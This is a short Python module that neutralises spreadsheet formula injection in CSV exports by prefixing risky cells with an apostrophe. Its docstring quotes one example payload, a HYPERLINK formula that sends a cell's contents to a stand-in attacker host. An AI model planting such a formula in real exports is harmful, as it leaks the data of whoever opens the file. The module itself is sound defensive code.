"""CSV cells a spreadsheet would run as a formula, neutralised: every CSV export writes its rows through here.

A visitor can type `=HYPERLINK("https://evil.example/?"&A1,"Click")` into a
contact form; opened in Excel or LibreOffice from the CSV export, it would run.
A cell starting with =, +, -, @, a tab or a carriage return gets a leading
apostrophe, which spreadsheets show as text (OWASP's advice, and what Wagtail
does for its XLSX export by marking such cells as strings).
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The cell as a spreadsheet must show it: text starting a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(row):
    return [neutralise(value) for value in row]
